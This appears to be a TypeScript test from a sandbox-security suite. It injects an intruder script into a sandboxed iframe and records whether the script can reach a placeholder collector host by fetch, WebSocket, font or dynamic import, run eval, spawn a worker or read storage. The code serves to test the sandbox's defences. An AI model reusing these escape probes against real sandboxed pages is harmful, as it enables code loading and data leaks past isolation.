import type { Attack } from './attacks'

/** Stands in the place of Python's worker, and tries all that a script can. */
const INTRUDER = `onmessage = async ({ ports: [, told] }) => {
  const at = 'COLLECTOR'
  const attempts = {
    alone_fetch: () => fetch(at + 'alone_fetch'),
    alone_socket: () => new WebSocket(at.replace('http', 'ws') + 'alone_socket'),
    alone_font: () => new FontFace('x', 'url(' + at + 'alone_font)').load(),
    alone_import: () => import(at + 'alone_import.js'),
    alone_eval: () => Function('return 1')() === 1,
    alone_worker: () => new Promise((yes, no) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })))
      worker.onmessage = yes
      worker.onerror = no
    }),
    alone_storage: () => indexedDB.databases(),
  }
  const reached = []
  await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
    try {
      const answer = await Promise.race([attempt(), new Promise((_, no) => setTimeout(no, 1500))])
      if (!(answer instanceof WebSocket)) reached.push(name)
    } catch {}
  }))
  told.postMessage(reached)
}`

/** The sealed frame must hold without the help of the page's rules: here it stands in a page that has none. */
async function openAlone({ page, source }: { page: string; source: string }): Promise<string[]> {
  const frame = document.createElement('iframe')
  frame.setAttribute('sandbox', 'allow-scripts')
  frame.srcdoc = page
  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
  document.body.append(frame)
  await loaded
  const [control, told] = [new MessageChannel(), new MessageChannel()]
  const next = (port: MessagePort) =>
    new Promise<unknown>((resolve, reject) => {
      port.onmessage = ({ data }) =>
        data?.type === 'error' ? reject(new Error(data.message)) : resolve(data)
      setTimeout(() => reject(new Error('The frame does not answer.')), 5_000)
    })
  // The frame hears whoever shows it, and nobody else.
  const sibling = document.createElement('iframe')
  sibling.srcdoc = "<script>parent.frames[0].postMessage('hello', '*', [new MessageChannel().port2])</script>"
  const spoken = new Promise((resolve) => sibling.addEventListener('load', resolve))
  document.body.append(sibling)
  await spoken
  const here = next(control.port1)
  frame.contentWindow?.postMessage('hello', '*', [control.port2])
  const isHeard = await here.then(
    () => true,
    () => false,
  )
  if (!isHeard) return ['alone_hello']
  const ready = next(control.port1)
  // The smallest module of WebAssembly.
  const wasm = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]).buffer
  const assets = { stdlib: new ArrayBuffer(1), site: new ArrayBuffer(1) }
  control.port1.postMessage({ source })
  control.port1.postMessage({ wasm, assets, snapshot: null, hosts: [] })
  await ready
  const failed = next(control.port1)
  control.port1.postMessage({ type: 'start', id: '1' }, [new MessageChannel().port1, told.port2])
  const reached = (await Promise.race([next(told.port1), failed])) as string[]
  frame.remove()
  return reached
}

export const frameAlone: Attack = {
  name: 'a script in the frame, where the page has no rules',
  harms: [
    'called: alone_fetch',
    'called: alone_socket',
    'called: alone_font',
    'called: alone_import',
    'reached: alone_eval',
  ],
  async attempt(victim) {
    const page = await victim.run(() => document.querySelector('iframe')?.srcdoc ?? '', null)
    const source = INTRUDER.replace('COLLECTOR', victim.collector.url)
    const reached = await victim.elsewhere(openAlone, { page, source })
    return [...reached.map((name) => `reached: ${name}`), ...(await victim.harms())]
  },
}
